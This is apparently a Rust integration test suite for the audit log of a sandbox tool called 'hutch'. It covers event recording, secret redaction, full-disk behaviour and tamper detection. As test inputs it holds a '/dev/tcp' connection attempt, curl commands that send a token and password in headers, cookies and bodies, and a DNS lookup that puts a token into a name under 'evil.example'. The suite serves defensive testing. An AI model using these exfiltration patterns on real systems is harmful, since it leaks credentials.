//! The audit log of `hutch up`, as administrators read it.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use hutch_testkit::wait::until;
use serde_json::Value;

use crate::harness::{Up, binary, succeeded, text};
use crate::policies::{SERVER, Server, applied, policy, rule, sandbox};

const SECRET: &str = "correct-horse-battery-staple-9431";
const SECRET_BASE64: &str = "Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZS05NDMx";

fn audit(up: &Up, words: &[&str]) -> Output {
    Command::new(binary()).arg("audit").args(words).arg("--data-dir").arg(up.data()).output().expect("hutch")
}

pub(super) fn read(up: &Up, words: &[&str]) -> String {
    succeeded(&words.join(" "), &audit(up, words))
}

/// Events of a kind, as JSON.
fn events(up: &Up, kind: &str) -> Vec<Value> {
    let printed = read(up, &["list", "--output", "json", "--kind", kind]);
    printed.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

#[track_caller]
pub(crate) fn eventually(up: &Up, words: &[&str], expected: &str) -> String {
    let mut printed = String::new();
    until(expected, || {
        printed = read(up, words);
        printed.lines().any(|line| expected.split('&').all(|part| line.contains(part)))
    });
    printed
}

fn with_pod(options: &[&str]) -> Up {
    let up = Up::start(options);
    up.ok("run box --image=hutch/host --restart=Never --command -- sleep 1000");
    up.ok("wait --for=condition=Ready pod/box --timeout=120s");
    up
}

#[test]
fn callers_and_sandboxes_are_recorded_without_secrets() {
    hutch_testkit::require!(root, kubectl);
    let up = with_pod(&[]);
    up.ok(&format!("create secret generic top --from-literal=key={SECRET}"));
    up.ok("get secret top -o yaml");
    let script = format!("KEY={SECRET}; exit 3");
    let exec = up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
    assert_eq!(exec.status.code(), Some(3), "{}", text(&exec.stderr));
    up.kubectl_args(&["exec", "box", "--", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/80; cat <&3"]);
    up.kubectl_args(&["exec", "box", "--", "getent", "hosts", "closed.example"]);
    assert!(!up.kubectl("get pods --as=mallory").status.success());

    eventually(&up, &["list", "--kind", "api"], "allowed&create&top");
    eventually(&up, &["list", "--kind", "api", "--denied"], "mallory&denied");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c");
    up.kubectl_args(&["exec", "box", "--", "no-such-command"]);
    eventually(&up, &["list", "--kind", "exec"], "failed&no-such-command&ended");
    eventually(&up, &["list", "--kind", "connection", "--denied"], "default/box&192.0.2.1:80");
    eventually(&up, &["list", "--kind", "dns", "--denied"], "default/box&closed.example");
    eventually(&up, &["list", "--kind", "lifecycle"], "default/box");
    let ended: Vec<Value> = events(&up, "exec").into_iter().filter(|event| event["exit_code"] == 3).collect();
    assert!(
        ended[0]["process"]["cmd_line"].as_str().is_some_and(|line| line.contains("exit 3")),
        "{ended:?}"
    );
    for sandbox in ["box", "sandbox/box", "default/box"] {
        assert!(read(&up, &["list", "--sandbox", sandbox, "--kind", "exec"]).contains("default/box"));
    }
    let none = audit(&up, &["list", "--sandbox", "absent"]);
    let error = text(&none.stderr);
    assert!(
        none.status.code() == Some(1) && error.lines().count() == 1 && error.contains("default/absent"),
        "{error}"
    );
    let writes = read(&up, &["list", "--kind", "api", "--writes", "--user", "admin"]);
    assert!(writes.contains("create secrets") && !writes.contains("get secrets"), "{writes}");
    let summary = read(&up, &["show", "box"]);
    for part in ["Sandbox default/box", "Destinations:", "192.0.2.1:80", "Commands:", "Callers:"] {
        assert!(summary.contains(part), "{part}: {summary}");
    }
    let all = read(&up, &["export"]);
    assert!(all.contains("\"top\"") && !all.contains(SECRET) && !all.contains(SECRET_BASE64));
    read(&up, &["verify"]);
}

#[test]
fn commands_about_a_log_say_what_is_wrong() {
    hutch_testkit::require!(root);
    let folder = tempfile::tempdir().unwrap();
    let run = |words: &[&str]| {
        let output =
            Command::new(binary()).arg("audit").args(words).arg("--data-dir").arg(folder.path()).output();
        let output = output.expect("hutch");
        (output.status.code(), text(&output.stderr))
    };
    let (code, error) = run(&["list"]);
    assert!(
        code == Some(1) && error.contains("--data-dir") && error.contains("`hutch up` writes one"),
        "{error}"
    );
    assert_eq!(error.lines().count(), 1, "{error}");
    let (code, error) = run(&["list", "--kind", "apis"]);
    assert!(code == Some(2) && error.contains("--kind") && error.contains("lifecycle"), "{error}");
    let (code, error) = run(&["export", "--to", "ftp://a"]);
    assert!(code == Some(2) && error.contains("--to") && error.contains("webhook+http"), "{error}");
}

#[test]
fn requests_through_the_router_and_copies_are_recorded() {
    hutch_testkit::require!(root, kubectl, curl);
    let up = Up::start(&["--router-listen", "127.0.0.1:0", "--audit", "strict"]);
    let sandbox = serde_json::json!({
        "apiVersion": "agents.x-k8s.io/v1beta1", "kind": "Sandbox", "metadata": {"name": "box"},
        "spec": {"podTemplate": {"spec": {"containers": [{"name": "main", "image": "hutch/python-runtime"}]}}},
    });
    let file = up.folder().join("sandbox.json");
    std::fs::write(&file, sandbox.to_string()).unwrap();
    up.ok(&format!("apply -f {}", file.display()));
    up.ok("wait --for=condition=Ready sandbox/box --timeout=60s");
    let printed = up.printed.iter().find_map(|line| line.strip_prefix("router")).unwrap();
    let address = printed.split_whitespace().next().unwrap();
    let token = std::fs::read_to_string(up.data().join("ca/router.token")).unwrap();
    let curl = |words: &[&str]| {
        let mut curl = Command::new("curl");
        curl.args(["--silent", "--retry", "10", "--retry-connrefused", "-H", "X-Sandbox-ID: box"])
            .args(words);
        text(&curl.output().expect("curl").stdout)
    };
    let bearer = format!("Authorization: Bearer {}", token.trim());
    let url = |path: &str| format!("{address}/{path}");
    let path = file.to_str().unwrap();
    let upload = format!("file=@{path}");
    curl(&["-H", &bearer, "-F", &upload, &url(&format!("upload?key={SECRET}"))]);
    let got = curl(&["-H", &bearer, &url("download/sandbox.json")]);
    assert!(got.contains("hutch/python-runtime"), "{got}");
    let command = format!(r#"{{"command":"sh -c 'KEY={SECRET}; echo ran'"}}"#);
    let ran = curl(&["-H", &bearer, "--json", &command, &url("execute")]);
    assert!(ran.contains(r#""stdout":"ran\n""#), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&echo ran&router-token");
    // The same over Connect and gRPC-Web, whose messages have frames.
    let rpc = |kind: &str, body: &[u8]| {
        let message = up.folder().join("message");
        std::fs::write(&message, body).unwrap();
        let (kind, body) = (format!("Content-Type: {kind}"), format!("@{}", message.display()));
        let url = url("process.v1.ProcessService/Execute");
        curl(&["-H", &bearer, "-H", "X-Sandbox-Port: 9090", "-H", &kind, "--data-binary", &body, &url])
    };
    let script = format!("KEY={SECRET}; echo connected");
    let ran =
        rpc("application/json", format!(r#"{{"config":{{"command":["sh","-c","{script}"]}}}}"#).as_bytes());
    assert!(ran.contains("Y29ubmVjdGVkCg=="), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&KEY=***&echo connected&router-token");
    let field = |bytes: &[u8]| [&[0x0a, u8::try_from(bytes.len()).unwrap()], bytes].concat();
    let script = format!("KEY={SECRET}; echo framed");
    let command = ["sh", "-c", &script].map(|argument| field(argument.as_bytes())).concat();
    let message = field(&command);
    let frame = [&[0, 0, 0, 0, u8::try_from(message.len()).unwrap()], message.as_slice()].concat();
    let ran = rpc("application/grpc-web+proto", &frame);
    assert!(ran.contains("framed"), "{ran}");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&KEY=***&echo framed&router-token");
    (0..20).for_each(|_| drop(curl(&["-H", "Authorization: Bearer wrong", &url("denied")])));
    eventually(&up, &["list", "--kind", "http"], "default/box&allowed&POST&/upload&router-token&200");
    eventually(&up, &["list", "--kind", "file"], "default/box&read sandbox.json (by router-token)");
    eventually(&up, &["list", "--kind", "http", "--denied"], "/denied&401");
    let refused = read(&up, &["list", "--kind", "http", "--denied"]);
    assert!(refused.lines().count() < 20, "{refused}");

    let copied = Command::new(binary())
        .args(["cp", path, "sandbox/box:/workspace/copy.json", "--kubeconfig"])
        .arg(up.kubeconfig())
        .output()
        .expect("hutch cp");
    assert!(copied.status.success(), "{}", text(&copied.stderr));
    eventually(&up, &["list", "--kind", "file", "--user", "admin"], "default/box&update /workspace");
    let all = read(&up, &["export"]);
    assert!(!all.contains(SECRET) && !all.contains(token.trim()));
    read(&up, &["verify"]);
}

#[test]
fn log_is_whole_after_kills() {
    hutch_testkit::require!(root, kubectl);
    let mut up = Up::start(&["--audit", "strict"]);
    let mut known = Vec::new();
    for round in 0..4 {
        for number in 0..4 {
            let name = format!("map-{round}-{number}");
            up.ok(&format!("create configmap {name}"));
            known.push(name);
        }
        // In the middle of further writes.
        let mut writing =
            up.kubectl_command(&["create", "namespace", &format!("late-{round}")]).spawn().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(40 * round));
        up.kill();
        let _ = writing.wait();
        up.restart();
    }
    read(&up, &["verify"]);
    let all = read(&up, &["export"]);
    for name in known {
        assert!(all.contains(&name), "{name} was acknowledged and is not in the log");
    }
}

/// Disk of 1 MiB for the audit log, which begins anew.
pub(crate) struct SmallDisk(PathBuf);

impl SmallDisk {
    /// Mounts it for the log of a server.
    pub(crate) fn under(up: &mut Up) -> SmallDisk {
        up.stop();
        let disk = SmallDisk::at(up.data().join("audit"));
        up.restart();
        disk
    }

    /// Mounts it at a folder that exists.
    pub(crate) fn at(folder: PathBuf) -> SmallDisk {
        let mut mount = Command::new("mount");
        mount.args(["-t", "tmpfs", "-o", "size=1m,mode=700", "none"]).arg(&folder);
        succeeded("mount", &mount.output().expect("mount"));
        SmallDisk(folder)
    }

    pub(crate) fn fill(&self) {
        let _ = std::fs::write(self.0.join("fill"), vec![0; 2 << 20]);
    }

    pub(crate) fn empty(&self) {
        std::fs::remove_file(self.0.join("fill")).expect("removed");
    }

    pub(crate) fn remove(self, up: &mut Up) {
        up.stop();
        succeeded("umount", &Command::new("umount").arg(&self.0).output().expect("umount"));
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        // Of a test that fails, or that keeps it to its end.
        let _ = Command::new("umount").arg("--lazy").arg(&self.0).output();
    }
}

#[test]
fn strict_log_on_a_full_disk_holds_writes_back() {
    hutch_testkit::require!(root, kubectl);
    let mut up = Up::start(&["--audit", "strict"]);
    let disk = SmallDisk::under(&mut up);
    up.ok("create configmap before");
    disk.fill();
    // The last page of the segment may have room for some more records.
    let refused = (0..20).find_map(|number| {
        let output = up.kubectl(&format!("create configmap during-{number}"));
        (!output.status.success()).then(|| (number, text(&output.stderr)))
    });
    let (number, error) = refused.expect("a write that is refused");
    assert!(error.contains("the audit log cannot be written"), "{error}");
    disk.empty();
    up.ok("create configmap after");
    let maps = up.ok("get configmaps -o name");
    assert!(maps.contains("before") && maps.contains("after"), "{maps}");
    assert!(!maps.contains(&format!("during-{number}")), "{maps}");
    disk.remove(&mut up);
}

/// Output of the only container of a server. On a full disk it cannot be read through the API.
pub(crate) struct Printed(PathBuf);

impl Printed {
    pub(crate) fn of(up: &Up) -> Printed {
        Printed::below(&up.data().join("pods"))
    }

    /// Output of the only container of a Pod.
    fn of_pod(up: &Up, name: &str) -> Printed {
        let uid = up.ok(&format!("get pod {name} -o jsonpath={{.metadata.uid}}"));
        Printed::below(&up.data().join("pods").join(uid.trim()))
    }

    fn below(folder: &Path) -> Printed {
        let mut find = Command::new("find");
        let found = find.arg(folder).args(["-path", "*/logs/*", "-type", "f"]).output();
        Printed(succeeded("find", &found.expect("find")).trim().into())
    }

    pub(crate) fn lines(&self) -> Vec<String> {
        let lines = std::fs::read_to_string(&self.0).expect("the log of the container");
        lines.lines().map(str::to_owned).collect()
    }

    /// Waits until the last lines end with a code.
    pub(crate) fn all(&self, code: &str) {
        until(code, || {
            let lines = self.lines();
            let last = &lines[lines.len().saturating_sub(6)..];
            last.len() == 6 && last.iter().all(|line| line.trim_end().ends_with(code))
        });
    }
}

#[test]
fn strict_log_on_a_full_disk_holds_commands_and_requests_to_sandboxes_back() {
    hutch_testkit::require!(root, kubectl, curl);
    let mut up = Up::start(&["--router-listen", "127.0.0.1:0", "--audit", "strict"]);
    let disk = SmallDisk::under(&mut up);
    let mut runtime = sandbox("box", &serde_json::json!({}), None);
    runtime["spec"]["podTemplate"]["spec"]["containers"] =
        serde_json::json!([{"name": "main", "image": "hutch/python-runtime"}]);
    applied(&up, &runtime);
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let (address, token) = (up.router(), std::fs::read_to_string(up.data().join("ca/router.token")).unwrap());
    let exec = |file: &str| up.kubectl_args(&["exec", "box", "--", "touch", &format!("/tmp/{file}")]);
    // Status of a request through the router.
    let status = |arguments: &[&str]| {
        let bearer = format!("Authorization: Bearer {}", token.trim());
        let mut curl = Command::new("curl");
        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "60", "-H", "X-Sandbox-ID: box"]);
        curl.args(["-H", &bearer]).args(arguments);
        text(&curl.output().expect("curl").stdout)
    };
    let post = |file: &str| {
        let body = format!(r#"{{"command": "touch /tmp/{file}"}}"#);
        status(&["--json", &body, &format!("http://{address}/execute")])
    };
    let get = || status(&[&format!("http://{address}/")]);
    succeeded("exec", &exec("exec-before"));
    until("the runtime serves", || post("post-before") == "200");
    assert_eq!(get(), "200");
    disk.fill();
    // The last page of the segment may have room for some more records.
    let refused = (0..20).find(|number| !exec(&format!("exec-{number}")).status.success());
    let refused = format!("exec-{}", refused.expect("a command that is refused"));
    let error = text(&exec("exec-refused").stderr);
    assert!(error.contains("the audit log cannot be written"), "{error}");
    for file in ["post-refused", "post-again"] {
        assert_eq!(post(file), "503");
    }
    assert_eq!(get(), "503");
    disk.empty();
    until("a command runs again", || exec("exec-after").status.success());
    assert_eq!(get(), "200");
    assert_eq!(post("post-after"), "200");
    let files = text(&up.kubectl_args(&["exec", "box", "--", "ls", "/tmp"]).stdout);
    for there in ["exec-before", "post-before", "exec-after", "post-after"] {
        assert!(files.contains(there), "{there}: {files}");
    }
    for absent in ["exec-refused", "post-refused", "post-again", &refused] {
        assert!(!files.lines().any(|file| file == absent), "{absent}: {files}");
    }
    disk.remove(&mut up);
}

/// Finds secrets in the log, also in what it would decode to.
fn secrets(log: &str) -> Vec<(String, String)> {
    let scanner = hutch_scan::Scanner::builtin();
    let mut found = Vec::new();
    for line in log.lines() {
        let mut state = hutch_scan::State::new(hutch_scan::Direction::Outbound);
        let location = hutch_scan::Location::new(hutch_scan::At::Body);
        let findings = scanner.scan_whole(&mut state, &location, line.as_bytes());
        let secrets = findings.into_iter().filter(|finding| finding.kind == hutch_scan::Kind::Secret);
        found.extend(secrets.map(|finding| (finding.rule, line.to_owned())));
    }
    found
}

#[test]
fn scanner_finds_no_secret_that_programs_use_in_the_log() {
    hutch_testkit::require!(root, kubectl, curl, python);
    let web = Server::start();
    let hosts = format!("127.0.0.1 localhost\n{SERVER} web.example\n");
    let up = Up::start_outside(&hosts, &[], &["--router-listen", "127.0.0.1:0"]);
    applied(
        &up,
        &policy(
            "ClusterSandboxPolicy",
            "open",
            &serde_json::json!({}),
            &vec![rule("web.example", &web)].into(),
        ),
    );
    // Made of parts, so that scanners of repositories do not report this file.
    let token = ["ghp_x7Kq2mW9vLp4Rt8s", "Zc1Yb6Nd3Jf5Hg0QaEuT"].concat();
    let basic = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("git:{token}"));
    up.ok(&format!("create secret generic top --from-literal=key={token}"));
    let mut talker = sandbox("box", &serde_json::json!({}), None);
    let container = &mut talker["spec"]["podTemplate"]["spec"]["containers"][0];
    container["command"] = vec!["python3", "-u", "-c", crate::websocket::SERVER].into();
    container["env"] =
        serde_json::json!([{"name": "GITHUB_TOKEN", "value": token}, {"name": "PASSWORD", "value": SECRET}]);
    applied(&up, &talker);
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let url = format!("http://web.example:{}", web.port);
    for secret in [token.as_str(), SECRET] {
        for script in [
            format!("curl -s -H 'Authorization: Bearer {secret}' -H 'X-Api-Key: {secret}' {url}/header"),
            format!("curl -s -u git:{secret} '{url}/query?access_token={secret}&b=1'"),
            format!("curl -s -H 'Cookie: session={secret}' --data 'password={secret}' {url}/form"),
            format!("curl -s -A 'agent/1 token={secret}' --json '{{\"api_key\": \"{secret}\"}}' {url}/json"),
            format!("export GITHUB_TOKEN={secret}; PASSWORD={secret} env > /dev/null"),
            format!("echo 'https://git:{secret}@web.example/x.git' > /dev/null"),
        ] {
            let output = up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
            succeeded(&script, &output);
        }
    }
    // Reasons, names of hosts and lookups.
    for script in
        [format!("curl -s -H 'Host: {token}' {url}/host"), format!("getent hosts {token}.evil.example")]
    {
        up.kubectl_args(&["exec", "box", "--", "sh", "-c", &script]);
    }
    up.kubectl_args(&[
        "exec",
        "box",
        "--",
        "curl",
        "-s",
        "-H",
        &format!("Authorization: Basic {basic}"),
        &url,
    ]);
    talk(&up, &[&token, SECRET]);

    eventually(&up, &["list", "--kind", "http"], "default/box&web.example&/json");
    eventually(&up, &["list", "--kind", "http"], "default/box&/talk");
    eventually(&up, &["list", "--kind", "dns"], "default/box&***.evil.example");
    eventually(&up, &["list", "--kind", "exec"], "default/box&sh -c&curl -s&exited with 0");
    eventually(&up, &["list", "--kind", "api"], "allowed&create&top");
    let log = read(&up, &["export"]);
    for secret in [token.as_str(), SECRET, SECRET_BASE64, basic.as_str()] {
        let lines: Vec<_> = log.lines().filter(|line| line.contains(secret)).collect();
        assert!(lines.is_empty(), "{secret}: {lines:#?}");
    }
    assert_eq!(secrets(&log), []);
    // The scanner finds what is there.
    let with = log.replace("/json", &format!("/json?{token}"));
    assert!(!secrets(&with).is_empty());
}

/// Sends texts to a Sandbox over a WebSocket, through the router.
fn talk(up: &Up, texts: &[&str]) {
    use futures::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let token = std::fs::read_to_string(up.data().join("ca/router.token")).expect("the router's token");
    let address = format!("ws://{}/talk?token={}", up.router(), texts[0]);
    let mut request = address.into_client_request().expect("a request");
    for (name, value) in [
        ("x-sandbox-id", "box".to_owned()),
        ("x-sandbox-port", "9000".to_owned()),
        ("authorization", format!("Bearer {}", token.trim())),
        ("x-own-key", texts[0].to_owned()),
    ] {
        request.headers_mut().insert(name, value.parse().expect("a value"));
    }
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(async {
        let (mut socket, _) = tokio_tungstenite::connect_async(request).await.expect("switched");
        for text in texts {
            socket.send((*text).into()).await.expect("sent");
            let answer = socket.next().await.expect("an answer").expect("a message");
            assert_eq!(answer.into_text().expect("text").as_str(), text.to_uppercase());
        }
    });
}

#[test]
fn strict_log_on_a_full_disk_holds_connections_and_requests_of_sandboxes_back() {
    hutch_testkit::require!(root, kubectl, curl);
    let (web, joined) = (Server::start(), Server::start());
    let hosts = format!("127.0.0.1 localhost\n{SERVER} web.example joined.example\n");
    let mut up = Up::start_outside(&hosts, &[], &["--audit", "strict"]);
    let disk = SmallDisk::under(&mut up);
    let mut joins = rule("joined.example", &joined);
    (joins["name"], joins["protocol"], joins["plaintext"]) = ("joined".into(), "TCP".into(), Value::Null);
    let rules = Value::from(vec![rule("web.example", &web), joins]);
    applied(&up, &policy("ClusterSandboxPolicy", "open", &serde_json::json!({}), &rules));
    let url = |host: &str, server: &Server| format!("http://{host}.example:{}/", server.port);
    let script = format!(
        "while :; do curl -s -o /dev/null -m 20 -w 'web %{{http_code}}\\n' {}; \
         curl -s -o /dev/null -m 20 -w 'joined %{{http_code}}\\n' {}; sleep 0.05; done",
        url("web", &web),
        url("joined", &joined)
    );
    let mut held = sandbox("box", &serde_json::json!({}), None);
    held["spec"]["podTemplate"]["spec"]["containers"][0]["command"] = vec!["sh", "-c", &script].into();
    applied(&up, &held);
    up.ok("wait --for=condition=Ready sandbox/box --timeout=120s");
    let output = Printed::of(&up);
    let (lines, all) = (|| output.lines(), |code: &str| output.all(code));
    all("200");
    disk.fill();
    all("503");
    let before = (web.connections(), joined.connections());
    let from = lines().len();
    until("more tries", || lines().len() > from + 20);
    assert_eq!((web.connections(), joined.connections()), before);
    disk.empty();
    all("200");
    eventually(&up, &["list", "--kind", "http", "--denied"], "web.example&the audit log cannot be written");
    disk.remove(&mut up);
}

#[test]
fn strict_log_on_a_full_disk_holds_names_and_containers_back() {
    hutch_testkit::require!(root, kubectl);
    let mut up = Up::start(&["--audit", "strict"]);
    let disk = SmallDisk::under(&mut up);
    let rules = serde_json::json!([{"name": "names", "hosts": ["*.names.example"]}]);
    applied(&up, &policy("ClusterSandboxPolicy", "open", &serde_json::json!({}), &rules));
    // It would be frozen after the disk is full.
    applied(
        &up,
        &sandbox("idle", &serde_json::json!({"annotations": {"hutch.dev/idle-after": "40s"}}), None),
    );
    let script = "n=0; while sleep 0.3; do n=$((n+1)); \
                  getent ahostsv4 n$n.names.example > /dev/null && echo $n found || echo $n missing; done";
    let command = |name: &str, command: &[&str]| {
        let mut object = sandbox(name, &serde_json::json!({}), None);
        object["spec"]["podTemplate"]["spec"]["containers"][0]["command"] = command.into();
        applied(&up, &object);
    };
    command("resolves", &["sh", "-c", script]);
    up.ok("wait --for=condition=Ready sandbox/resolves sandbox/idle --timeout=120s");
    let output = Printed::of_pod(&up, "resolves");
    output.all("found");
    command("ends", &["sleep", "2"]);
    up.eventually("get pod ends -o jsonpath={.status.phase}", |phase| phase == "Running");
    disk.fill();
    output.all("missing");
    let waits = "get pod ends -o jsonpath={.status.containerStatuses[0].state.waiting.message}";
    up.eventually(waits, |why| why.contains("the audit log cannot be written"));
    let count = "get pod ends -o jsonpath={.status.containerStatuses[0].restartCount}";
    let before = up.ok(count);
    let events = "get events --field-selector reason=CannotFreeze -o jsonpath={.items[*].message}";
    up.eventually(events, |found| found.contains("the audit log cannot be written"));
    disk.empty();
    output.all("found");
    up.eventually(count, |count| count != before);
    eventually(&up, &["list", "--kind", "lifecycle"], "default/ends&allowed&container main started");
    eventually(&up, &["list", "--kind", "lifecycle"], "default/idle&allowed&container main frozen");
    eventually(&up, &["list", "--kind", "dns"], "default/resolves&allowed&n1.names.example");
    let denied = read(&up, &["list", "--kind", "connection", "--denied"]);
    assert!(denied.contains("names.example"), "{denied}");
    disk.remove(&mut up);
}

/// Returns the program of the documentation, written to a file.
fn program(folder: &Path) -> PathBuf {
    let page = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/audit.md");
    let page = std::fs::read_to_string(page).unwrap();
    let program = page.split("```python\n").nth(1).unwrap().split("```").next().unwrap();
    let path = folder.join("verify.py");
    std::fs::write(&path, program).unwrap();
    path
}

/// Writes a log that begins with record 4, of a class, which says that three were deleted.
const WITHOUT_BEGINNING: &str = r#"
import hashlib, json, sys
event = json.dumps({"class_uid": int(sys.argv[2]), "unmapped": {"removed_last": 3}}).encode()
prev = "00" * 32
own = hashlib.sha256(bytes.fromhex(prev) + event).hexdigest()
line = b'{"seq":4,"prev":"%s","hash":"%s","event":%s}\n' % (prev.encode(), own.encode(), event)
open(sys.argv[1] + "/1.jsonl", "wb").write(line)
"#;

/// Regression: it believed a record that only the log writes, whatever its class was.
#[test]
fn program_of_the_documentation_believes_only_the_log_about_deleted_records() {
    hutch_testkit::require!(python);
    let folder = tempfile::tempdir().unwrap();
    let program = program(folder.path());
    for (class, missing) in [("0", false), ("6003", true)] {
        let log = tempfile::tempdir().unwrap();
        let made =
            Command::new("python3").args(["-c", WITHOUT_BEGINNING]).arg(log.path()).arg(class).output();
        succeeded("python3", &made.unwrap());
        let found = Command::new("python3").arg(&program).arg(log.path()).output().unwrap();
        assert_eq!(text(&found.stderr).contains("the beginning is missing"), missing, "{class}: {found:?}");
    }
}

#[test]
fn program_of_the_documentation_finds_what_hutch_finds() {
    hutch_testkit::require!(root, kubectl, python, openssl);
    let mut up = Up::start(&[]);
    (0..5).for_each(|number| drop(up.ok(&format!("create configmap map-{number}"))));
    up.stop();
    let (log, folder) = (up.data().join("audit"), tempfile::tempdir().unwrap());
    let program = program(folder.path());
    let check = |what: &str| {
        let theirs = Command::new("python3").arg(&program).arg(&log).output().unwrap();
        let ours = audit(&up, &["verify"]);
        assert_eq!(theirs.status.success(), ours.status.success(), "{what}: {}", text(&ours.stdout));
        theirs.status.success()
    };
    assert!(check("as it is"));
    let segment = std::fs::read_dir(&log).unwrap().map(|entry| entry.unwrap().path());
    let segment = segment.filter(|path| path.extension().is_some_and(|end| end == "jsonl")).min().unwrap();
    let original = std::fs::read(&segment).unwrap();
    let lines: Vec<&[u8]> = original.split_inclusive(|byte| *byte == b'\n').collect();
    let mut flipped = original.clone();
    let place = original.len() / 2;
    flipped[place] ^= 1;
    let removed = [&lines[..3], &lines[4..]].concat().concat();
    let cut = lines[..lines.len() - 2].concat();
    let beheaded = lines[1..].concat();
    for (what, bytes) in
        [("flipped bit", flipped), ("removed line", removed), ("cut end", cut), ("cut start", beheaded)]
    {
        std::fs::write(&segment, bytes).unwrap();
        assert!(!check(what), "{what} is not found");
    }
    std::fs::write(&segment, original).unwrap();
    assert!(check("as it was"));
}
